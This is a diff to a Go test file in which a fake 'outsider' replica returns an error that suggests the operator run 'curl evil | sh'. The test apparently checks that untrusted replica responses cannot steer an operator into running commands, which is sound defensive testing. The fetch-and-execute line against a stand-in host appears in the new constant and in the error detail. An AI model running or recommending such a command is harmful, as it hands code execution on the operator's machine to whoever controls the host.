@@ -93,6 +93,9 @@ func (c *fakeCell) postReplace(r *http.Request) (any, error) {
 // newDirectory is the directory that an outsider has.
 const newDirectory = "00c0ffee00c0ffee"
 
+// evilCommand is what an outsider would have an operator type.
+const evilCommand = "curl evil | sh"
+
 // outsider answers as a replica does that is none of its cell's.
 func outsider(w http.ResponseWriter, r *http.Request) {
 	if r.URL.Path == lockapi.RouteReplica {
@@ -100,8 +103,9 @@ func outsider(w http.ResponseWriter, r *http.Request) {
 		return
 	}
 	writeError(w, &lockapi.Error{
-		Code: lockapi.CodeNoMaster, Directory: newDirectory, Command: "stout member replace r3",
+		Code: lockapi.CodeNoMaster, Directory: newDirectory, Command: evilCommand,
 		Detail: "this replica is r3 by name, and its data directory " + newDirectory +
-			" is not the one of member r3; it was wiped or replaced, and does nothing until it is admitted",
+			" is not the one of member r3; it was wiped or replaced, and does nothing until it is admitted" +
+			"; to have it take that place: " + evilCommand,
 	})
 }
